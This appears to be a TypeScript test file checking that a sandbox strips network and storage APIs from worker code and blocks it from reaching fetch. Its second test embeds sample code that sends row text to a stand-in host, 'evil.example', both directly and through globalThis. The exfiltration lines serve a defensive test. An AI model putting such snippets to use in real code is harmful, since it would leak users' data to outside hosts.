import { describe, expect, it } from 'vitest';
import { hardenedSandbox } from '../core/lf/hardened-realm.ts';
import { LfRuntime } from '../core/lf/runtime.ts';
import { BLOCKED_GLOBALS, lockDownScope } from './lockdown.ts';

describe('LF worker lockdown', () => {
  it('removes network and storage APIs from the scope and from its prototypes', () => {
    const proto = { fetch: () => 'sent', importScripts: () => 'loaded', postMessage: () => 'kept' };
    const scope = Object.create(proto) as Record<string, unknown>;
    scope.WebSocket = class {};
    scope.indexedDB = {};
    const removed = lockDownScope(scope);
    expect(removed.sort()).toEqual(['WebSocket', 'fetch', 'importScripts', 'indexedDB']);
    for (const name of BLOCKED_GLOBALS) {
      expect(scope[name]).toBeUndefined();
      expect((Object.getPrototypeOf(scope) as Record<string, unknown>)[name]).toBeUndefined();
    }
    expect(typeof scope.postMessage).toBe('function');
    // It cannot be put back.
    expect(() => {
      'use strict';
      scope.fetch = () => 'again';
    }).toThrow();
  });

  it("a code LF cannot reach the realm's fetch, even where the realm still has one", () => {
    // The sandbox gives LF code only the frozen built-ins (core/lf/hardened-realm.ts): a `fetch`
    // on this realm's global object stays out of reach, lockdown or not.
    const calls: string[] = [];
    const g = globalThis as Record<string, unknown>;
    const saved = Object.getOwnPropertyDescriptor(globalThis, 'fetch');
    Object.defineProperty(globalThis, 'fetch', { value: (u: string) => void calls.push(u), configurable: true, writable: true });
    try {
      const runtime = LfRuntime.fromDefs(
        [
          {
            id: 'x',
            name: 'exfiltrate',
            kind: 'code',
            enabled: true,
            source: '(x) => { fetch("https://evil.example/?" + x.text); return null; }',
          },
          {
            id: 'y',
            name: 'via-global',
            kind: 'code',
            enabled: true,
            source: '(x) => { globalThis.fetch("https://evil.example/?" + x.text); return null; }',
          },
        ],
        ['ham', 'spam'],
        { sandbox: hardenedSandbox() },
      );
      const out = runtime.applyChunk({ start: 0, rows: [{ text: 'secret' }] });
      expect(calls).toEqual([]);
      expect(out.errors[0]?.message).toMatch(/fetch is not (defined|a function)/);
      expect(out.errors[1]?.message).toMatch(/not a function/);
      expect(typeof g.fetch).toBe('function');
    } finally {
      if (saved) Object.defineProperty(globalThis, 'fetch', saved);
      else delete g.fetch;
    }
  });
});
